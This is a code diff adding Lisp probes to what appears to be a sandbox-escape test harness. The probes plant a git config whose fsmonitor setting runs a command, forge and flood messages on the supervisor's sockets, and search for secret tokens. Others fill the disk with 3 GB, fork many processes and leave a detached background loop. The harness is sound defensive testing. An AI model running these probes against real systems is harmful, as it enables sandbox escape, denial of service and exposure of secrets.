@@ -101,6 +101,132 @@
     (sb-posix:setuid 0)
     (and (/= before 0) "it is root")))
 
+;;; Files of the project
+
+(defun replace-directory (directory name)
+  (sb-posix:rename directory (concatenate 'string directory "-old"))
+  (sb-posix:mkdir directory #o755)
+  (%write (format nil "~a/~a" directory name))
+  nil)
+
+(defun make-in (directory name)
+  (ignore-errors (sb-posix:mkdir directory #o755))
+  (%write (format nil "~a/~a" directory name))
+  nil)
+
+(defun plant (top sign)
+  (ignore-errors (sb-posix:mkdir top #o755))
+  (dolist (name '("objects" "refs"))
+    (ignore-errors (sb-posix:mkdir (format nil "~a/~a" top name) #o755)))
+  (%write (format nil "~a/HEAD" top) (format nil "ref: refs/heads/main~%"))
+  (%write (format nil "~a/config" top)
+          (format nil "[core]~%	repositoryformatversion = 0~%	bare = false~%	worktree = .~%	fsmonitor = touch ~a;false~%" sign))
+  nil)
+
+(defun octets (text) (map '(vector (unsigned-byte 8)) #'char-code text))
+
+(defun %fork ()
+  (let ((process (sb-alien:alien-funcall (sb-alien:extern-alien "fork" (function sb-alien:int)))))
+    (when (zerop process)
+      (sb-alien:alien-funcall (sb-alien:extern-alien "_exit" (function sb-alien:void sb-alien:int)) 0))
+    (and (plusp process) (format nil "process ~d" process))))
+
+;;; The connection of this process to its keeper
+
+(defun connections ()
+  (loop for name in (entries "/proc/self/fd")
+        for place = (ignore-errors (sb-posix:readlink (format nil "/proc/self/fd/~a" name)))
+        when (eql 0 (search "socket:" place)) collect (parse-integer name)))
+
+(defun say (octets)
+  (let ((octets (coerce octets '(simple-array (unsigned-byte 8) (*)))))
+    (dolist (connection (connections))
+      (ignore-errors (num $sys_write connection octets (length octets))))))
+
+(defun framed (text)
+  (let ((size (length text)))
+    (concatenate 'vector (loop for place from 24 downto 0 by 8 collect (ldb (byte 8 place) size)) (octets text))))
+
+(defun say-text (text) (say (framed text)) nil)
+
+(defun forge (words)
+  (dotimes (number 600)
+    (say-text (format nil "{\"id\": ~d, \"ok\": true, \"forms\": [], ~a}" number words))))
+
+(defun flood ()
+  (let* ((frame (framed "{\"id\":-1,\"ok\":true} "))
+         (octets (coerce (apply #'concatenate 'vector (loop repeat 500 collect frame))
+                         '(simple-array (unsigned-byte 8) (*))))
+         (place (place-of octets))
+         (connections (connections)))
+    (loop with end = (+ 9 (get-universal-time))
+          while (< (get-universal-time) end)
+          do (dolist (connection connections)
+               (ignore-errors (num $sys_write connection place (length octets)))))))
+
+(defun drip ()
+  (say #(0 0 255 255 123))
+  (loop repeat 180 do (sleep 0.05) (say #(32))))
+
+(defun send-descriptors (count)
+  ;; One message with fifty descriptors: msghdr, cmsghdr, and the frame.
+  (let* ((frame (place-of #(0 0 0 2 123 125)))
+         (part (place-of (words 64 frame 6)))
+         (control (place-of (concatenate '(vector (unsigned-byte 8)) (words 64 216) (words 32 1 1) (zeros 200))))
+         (message (place-of (words 64 0 0 part 1 control 216 0))))
+    (dolist (connection (connections))
+      (ignore-errors (loop repeat count do (num $sys_sendmsg connection message 0))))))
+
+(defun command-words ()
+  (with-open-file (stream "/proc/self/cmdline" :external-format :latin-1)
+    (let* ((text (make-string 65536)) (end (read-sequence text stream)))
+      (loop with start = 0
+            for stop = (position (code-char 0) text :start start :end end)
+            while stop collect (subseq text start stop) do (setf start (1+ stop))))))
+
+(defun secret-words ()
+  (and (find-if (lambda (word) (and (>= (length word) 16) (every (lambda (c) (find c "0123456789abcdef")) word)))
+                (command-words))
+       "a secret word stands there"))
+
+(defun keeper-sockets ()
+  (dolist (path (append (command-words)
+                        (loop for name in (ignore-errors (entries "/tmp"))
+                              when (eql 0 (search "gramercy-image-" name))
+                                collect (format nil "/tmp/~a/s" name))))
+    (when (ignore-errors (= #o140000 (logand #o170000 (sb-posix:stat-mode (sb-posix:stat path)))))
+      (%send 'sb-bsd-sockets:local-socket :stream path)
+      (return (format nil "connected to ~a" path)))))
+
+;;; Taking and staying
+
+(defun fill-place (directory)
+  (let* ((path (format nil "~a/escaped" directory))
+         (place (sb-posix:open path (logior sb-posix:o-creat sb-posix:o-rdwr) #o600)))
+    (unwind-protect (progn (num $sys_fallocate place 0 0 (* 3 (ash 1 30))) (format nil "took 3 GB in ~a" directory))
+      (sb-posix:close place)
+      (sb-posix:unlink path))))
+
+(defun fill-private ()
+  (with-open-file (lines "/proc/self/mountinfo")
+    (loop for line = (read-line lines nil)
+          while line
+          for start = (search "/tmp/gramercy-image-" line)
+          when start
+            do (let ((place (subseq line start (position #\Space line :start start))))
+                 (ignore-errors (return (fill-place place)))))))
+
+(defun fork-many (count)
+  (dotimes (number count (format nil "~d processes" count))
+    (when (zerop (sb-posix:fork))
+      (sleep 20)
+      (sb-ext:exit :abort t))))
+
+(defun background (words)
+  (sb-ext:run-program "/usr/bin/setsid" (list "/bin/sh" "-c" "while sleep 1; do :; done" words)
+                      :wait nil :input nil :output nil :error nil)
+  nil)
+
 (defmacro attempt (form)
   `(handler-case (let ((evidence ,form)) (if evidence (format nil "ESCAPED: ~a" evidence) "refused"))
      (wrong-call (condition) (format nil "wrong: ~a" condition))
